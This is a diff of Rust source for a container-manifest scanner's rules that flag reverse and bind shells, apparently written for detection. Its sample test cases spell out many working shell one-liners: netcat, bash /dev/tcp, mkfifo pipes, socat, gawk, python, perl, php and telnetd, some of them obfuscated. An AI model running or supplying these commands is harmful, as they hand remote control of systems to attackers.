@@ -1,121 +1,329 @@
 //! Shells that are connected to the network.
 
-use super::{code, inputs};
-use crate::detect::facts::{Run, is_shell};
-use crate::normalize::{Invocation, RedirectOp};
+use super::words::{cluster, has, operands, words};
+use super::{COMMAND, Facts, Rule, Sample, Severity};
+use crate::detect::code;
+use crate::detect::findings::Collector;
+use crate::detect::runs::Run;
+use crate::normalize::exec::is_shell;
+use crate::normalize::{Invocation, Redirect, RedirectOp, argv};
 
-/// Whether an invocation gives a remote host a shell.
-pub(super) fn is_reverse_shell(run: &Run<'_>, invocation: &Invocation) -> bool {
-    netcat_exec(invocation)
-        || shell_on_socket(run, invocation)
-        || shell_between_nets(run, invocation)
-        || socat_exec(invocation)
-        || code::inline(invocation).is_some_and(code::is_reverse_shell)
-        || awk_on_socket(invocation)
+pub(super) static RULES: &[Rule] = &[
+    Rule {
+        id: "cmd-reverse-shell",
+        message: "opens a shell to a remote host",
+        meaning: "A shell is connected to the network: whoever listens at the other end controls the pod.",
+        false_positives: "Waiting for a port with nc -z or an echo into /dev/tcp is not one, and is not reported.",
+        severity: Severity::High,
+        points: 50,
+        techniques: &["T1059.004", "T1095"],
+        check: |facts, found| networked_shells(facts, found, false),
+        samples: &[
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [/bin/sh, -c], args: ['nc 192.0.2.10 4444 -e /bin/sh']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, image: ncat, args: ['192.0.2.10', '4444', --exec, /bin/bash]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [ncat, '192.0.2.10', '1', --sh-exec, 'bash -i']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, \"bash\\t-i >&\\t/dev/tcp/192.0.2.10/443 0>&1\"]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, '0<&196;exec 196<>/dev/tcp/192.0.2.10/443; sh <&196 >&196 2>&196']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, 'exec 5<>/dev/tcp/192.0.2.10/443; cat <&5 | while read l; do $l 2>&5 >&5; done']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 443 > /tmp/f']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'mknod /tmp/f p; sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/f']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'telnet 192.0.2.10 1 | sh | telnet 192.0.2.10 2']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [socat, 'TCP:192.0.2.10:443', 'EXEC:/bin/bash,pty']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [gawk, 'BEGIN{s=\"/inet/tcp/0/192.0.2.10/1\";while(1){s|&getline c;system(c)}}']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.10\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [perl, -e, 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [php, -r, '$s=fsockopen(\"192.0.2.10\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, \"python3 - <<E\\nimport socket,pty,os\\ns=socket.socket();s.connect(('192.0.2.10',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\\nE\"]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, env: [{name: A, value: 'nc 192.0.2.10 1 -e sh'}], command: [sh, -c, '$(A)']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -zvw3 db 5432 && sh migrate.sh']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'until (echo > /dev/tcp/db/5432); do sleep 1; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'timeout 1 bash -c \"</dev/tcp/db/5432\" && echo up']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'exec 3<>/dev/tcp/db/5432 && echo up']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [echo, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import socket; socket.create_connection((\"db\", 5432))']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.create_connection((\"db\",1));subprocess.run([\"bash\",\"migrate.sh\"])']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'echo ruok | nc zookeeper 2181']}]"),
+        ],
+        ..COMMAND
+    },
+    Rule {
+        id: "cmd-bind-shell",
+        message: "offers a shell to whoever connects",
+        meaning: "A shell waits on a port of the pod. Everyone who reaches the pod controls it.",
+        false_positives: "None known.",
+        severity: Severity::High,
+        points: 45,
+        techniques: &["T1059.004", "T1571"],
+        check: |facts, found| networked_shells(facts, found, true),
+        samples: &[
+            Sample::Hit(45, "containers: [{name: a, command: [nc, -lvp, '4444', -e, /bin/sh]}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [socat, 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc -l -p 4444 > f']}]",
+            ),
+            Sample::Hit(45, "containers: [{name: a, command: [busybox, telnetd, -p, '23', -l, /bin/sh]}]"),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -l -p 8080 > /data/upload']}]"),
+            Sample::Miss("containers: [{name: a, command: [socat, 'TCP-LISTEN:80,fork', 'TCP:db:5432']}]"),
+        ],
+        ..COMMAND
+    },
+];
+
+/// Hits shells on the network: those that listen, or those that connect.
+fn networked_shells(facts: &Facts<'_>, found: &mut Collector<'_>, listening: bool) {
+    for run in &facts.runs {
+        let net = Net::of(run);
+        let hit = run.invocations().find(|(at, invocation)| net.kind(*at, invocation) == Some(listening));
+        if let Some((at, _)) = hit {
+            found.hit(Some(&run.container.name), run.path(), &run.show(at));
+        }
+    }
 }
 
-/// `nc -e PROGRAM`, `ncat --sh-exec COMMAND`. Listening ones are bind shells: as bad, and reported here too.
+/// What has to be known of the whole run, gathered once.
+struct Net {
+    /// A named pipe or a coprocess closes the circle of a shell and a network tool.
+    fifo: bool,
+    /// Descriptors that were opened on a socket.
+    descriptors: Vec<u32>,
+    /// Some network tool listens.
+    listens: bool,
+    after_net: Vec<bool>,
+    after_shell: Vec<bool>,
+    after_descriptor: Vec<bool>,
+}
+
+impl Net {
+    fn of(run: &Run<'_>) -> Self {
+        let commands = &run.execution.commands;
+        let fifo = commands.iter().any(|invocation| {
+            invocation.program == "mkfifo"
+                || invocation.program == "coproc"
+                || invocation.program == "mknod" && has(invocation, &["p"])
+        });
+        let opened = commands
+            .iter()
+            .filter(|invocation| invocation.program == "exec" || invocation.program.is_empty());
+        let mut descriptors: Vec<u32> = opened
+            .flat_map(|invocation| &invocation.redirects)
+            .filter(|redirect| is_socket(&redirect.target.text))
+            .map(|redirect| redirect.fd.unwrap_or(0))
+            .collect();
+        descriptors.sort_unstable();
+        descriptors.dedup();
+        let after_descriptor = run.fed(|invocation| duplicates(&invocation.redirects, &descriptors));
+        Self {
+            fifo,
+            listens: commands.iter().any(listens),
+            after_net: run.fed(is_net_pipe),
+            after_shell: run.fed(|invocation| is_shell(&invocation.program)),
+            after_descriptor,
+            descriptors,
+        }
+    }
+
+    /// Whether an invocation connects a shell to the network, and if so whether it listens for that.
+    fn kind(&self, at: usize, invocation: &Invocation) -> Option<bool> {
+        if netcat_exec(invocation) {
+            return Some(listens(invocation));
+        }
+        if let Some(listening) = socat_exec(invocation) {
+            return Some(listening);
+        }
+        if invocation.program == "telnetd" && has(invocation, &["-l"]) {
+            return Some(true);
+        }
+        if let Some(code) = code::text(invocation) {
+            if code::is_bind_shell(code) {
+                return Some(true);
+            }
+            if code::is_reverse_shell(code)
+                || code.contains("/inet/tcp/") && (code.contains("getline") || code.contains("system("))
+            {
+                return Some(false);
+            }
+        }
+        if self.shell_on_socket(at, invocation) || invocation.program == "ztcp" {
+            return Some(false);
+        }
+        let set = |list: &[bool]| list.get(at) == Some(&true);
+        let reads_script = is_shell(&invocation.program) && operands(invocation).next().is_none();
+        let fed = reads_script && set(&self.after_net);
+        let circle = self.fifo && is_net_pipe(invocation) && set(&self.after_shell);
+        (fed || circle).then_some(self.listens)
+    }
+
+    /// `bash -i >& /dev/tcp/HOST/PORT`, and the two-step form over a descriptor that `exec` opened.
+    ///
+    /// Waiting for a port, `(echo > /dev/tcp/db/5432)`, has no shell on the socket; `exec 3<>/dev/tcp/db/5432`
+    /// alone has none either.
+    fn shell_on_socket(&self, at: usize, invocation: &Invocation) -> bool {
+        let runs_text =
+            is_shell(&invocation.program) || matches!(invocation.program.as_str(), "eval" | "source");
+        if !runs_text && !invocation.program.starts_with('$') {
+            return false;
+        }
+        // `bash -c 'exec 3<>/dev/tcp/…'` has its redirection inside the script; one on the shell is another matter.
+        invocation.redirects.iter().any(|redirect| is_socket(&redirect.target.text))
+            || duplicates(&invocation.redirects, &self.descriptors)
+            || self.after_descriptor.get(at) == Some(&true)
+    }
+}
+
+fn is_socket(target: &str) -> bool {
+    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
+}
+
+/// Whether a redirection duplicates one of the descriptors.
+fn duplicates(redirects: &[Redirect], descriptors: &[u32]) -> bool {
+    redirects.iter().any(|redirect| {
+        matches!(redirect.op, RedirectOp::DupIn | RedirectOp::DupOut)
+            && redirect
+                .target
+                .text
+                .trim_end_matches('-')
+                .parse::<u32>()
+                .is_ok_and(|descriptor| descriptors.binary_search(&descriptor).is_ok())
+    })
+}
+
+/// `nc -e PROGRAM`, `ncat --sh-exec COMMAND`.
 fn netcat_exec(invocation: &Invocation) -> bool {
-    is_netcat(&invocation.program)
-        && invocation.args.iter().any(|word| {
-            let text = word.text.as_str();
-            let is_long =
-                text.starts_with("--exec") || text.starts_with("--sh-exec") || text.starts_with("--lua-exec");
-            // -c is --sh-exec of ncat and of the traditional nc; -C and -z are not it.
-            is_long || short_cluster(text).is_some_and(|flags| flags.contains('e') || flags.contains('c'))
-        })
+    if !is_netcat(&invocation.program) {
+        return false;
+    }
+    let mut all = words(invocation).peekable();
+    while let Some(word) = all.next() {
+        let long = ["--exec", "--sh-exec", "--lua-exec"].iter().any(|flag| word.starts_with(flag));
+        let flags = cluster(word).unwrap_or_default();
+        // -c is --sh-exec of ncat and of the traditional nc, and "close" elsewhere: then no shell follows.
+        let runs = all.peek().is_some_and(|next| {
+            let name = argv::program(next.split(' ').next().unwrap_or(next));
+            is_shell(name) || next.contains("/bin/") || next.starts_with('$')
+        });
+        if long || flags.contains('e') || flags.ends_with('c') && runs {
+            return true;
+        }
+    }
+    false
 }
 
-/// The letters of `-abc`, if it is such a word.
-fn short_cluster(text: &str) -> Option<&str> {
-    text.strip_prefix('-')
-        .filter(|flags| !flags.is_empty() && flags.chars().all(|flag| flag.is_ascii_alphabetic()))
-}
-
-fn is_netcat(program: &str) -> bool {
+pub(super) fn is_netcat(program: &str) -> bool {
     matches!(program, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd")
+}
+
+/// Whether a netcat waits for connections.
+fn listens(invocation: &Invocation) -> bool {
+    is_netcat(&invocation.program)
+        && words(invocation)
+            .any(|word| word == "--listen" || cluster(word).is_some_and(|flags| flags.contains('l')))
+}
+
+/// Whether a netcat only looks whether a port is open.
+pub(super) fn only_probes(invocation: &Invocation) -> bool {
+    words(invocation).any(|word| {
+        cluster(word).is_some_and(|flags| flags.contains('z'))
+            || word.starts_with("-zv")
+            || word.starts_with("-vz")
+    })
 }
 
 /// Tools that connect their standard streams to a remote host.
 fn is_net_pipe(invocation: &Invocation) -> bool {
     match invocation.program.as_str() {
         "telnet" | "socat" => true,
-        "openssl" => invocation.args.first().is_some_and(|word| word.text == "s_client"),
-        program => is_netcat(program) && !invocation.args.iter().any(|word| word.text == "-z"),
+        "openssl" => has(invocation, &["s_client"]),
+        program => is_netcat(program) && !only_probes(invocation),
     }
 }
 
-/// `bash -i >& /dev/tcp/HOST/PORT`, and the two-step form over a descriptor that `exec` opened.
-///
-/// Waiting for a port, `(echo > /dev/tcp/db/5432)`, has no shell on the socket; `exec 3<>/dev/tcp/db/5432`
-/// alone has none either.
-fn shell_on_socket(run: &Run<'_>, invocation: &Invocation) -> bool {
-    let is_socket = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
-    let runs_text =
-        is_shell(&invocation.program) || invocation.program == "eval" || invocation.program == "source";
-    let dynamic_program = invocation.program.starts_with('$');
-    if !(runs_text || dynamic_program) {
-        return false;
-    }
-    if invocation.redirects.iter().any(|redirect| is_socket(&redirect.target.text)) {
-        return true;
-    }
-    let opened =
-        run.execution.commands.iter().filter(|other| other.program == "exec" || other.program.is_empty());
-    let descriptors: Vec<String> = opened
-        .flat_map(|other| &other.redirects)
-        .filter(|redirect| is_socket(&redirect.target.text))
-        .map(|redirect| redirect.fd.unwrap_or(0).to_string())
-        .collect();
-    let uses = |redirects: &[crate::normalize::Redirect]| {
-        redirects.iter().any(|redirect| {
-            matches!(redirect.op, RedirectOp::DupIn | RedirectOp::DupOut)
-                && descriptors
-                    .iter()
-                    .any(|descriptor| *descriptor == redirect.target.text.trim_end_matches('-'))
-        })
+/// `socat TCP:HOST:PORT EXEC:/bin/sh`, and whether it listens.
+fn socat_exec(invocation: &Invocation) -> Option<bool> {
+    let kinds = || {
+        words(invocation).filter_map(|word| word.split_once(':')).map(|(kind, _)| kind.to_ascii_uppercase())
     };
-    uses(&invocation.redirects) || inputs(&run.execution, invocation).any(|other| uses(&other.redirects))
-}
-
-/// A shell that is fed by a network tool, or feeds one and reads what comes back through a named pipe.
-fn shell_between_nets(run: &Run<'_>, invocation: &Invocation) -> bool {
-    let execution = &run.execution;
-    let makes_fifo = || {
-        execution.commands.iter().any(|other| {
-            other.program == "mkfifo"
-                || other.program == "mknod" && other.args.iter().any(|word| word.text == "p")
-                || other.program == "coproc"
-        })
+    let runs = invocation.program == "socat"
+        && kinds().any(|kind| matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL"));
+    let net = |kind: &String| {
+        ["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP", "VSOCK"]
+            .iter()
+            .any(|net| kind.starts_with(net))
     };
-    let reads_script =
-        is_shell(&invocation.program) && !invocation.args.iter().any(|word| !word.text.starts_with('-'));
-    if reads_script && inputs(execution, invocation).any(is_net_pipe) {
-        return true;
-    }
-    is_net_pipe(invocation)
-        && makes_fifo()
-        && inputs(execution, invocation).any(|other| is_shell(&other.program))
-}
-
-/// `socat TCP:HOST:PORT EXEC:/bin/sh`.
-fn socat_exec(invocation: &Invocation) -> bool {
-    let has = |prefixes: &[&str]| {
-        invocation.args.iter().any(|word| {
-            let upper = word.text.get(..12.min(word.text.len())).unwrap_or(&word.text).to_ascii_uppercase();
-            prefixes.iter().any(|prefix| upper.starts_with(prefix))
-        })
-    };
-    invocation.program == "socat"
-        && has(&["EXEC:", "SYSTEM:", "SHELL:"])
-        && has(&["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP"])
-}
-
-/// gawk speaks TCP by itself.
-fn awk_on_socket(invocation: &Invocation) -> bool {
-    matches!(invocation.program.as_str(), "awk" | "gawk")
-        && invocation.args.iter().any(|word| {
-            word.text.contains("/inet/tcp/")
-                && (word.text.contains("getline") || word.text.contains("system("))
-        })
+    let listening = kinds().any(|kind| kind.contains("LISTEN") || kind == "TCP-L" || kind == "UDP-L");
+    (runs && kinds().any(|kind| net(&kind))).then_some(listening)
 }
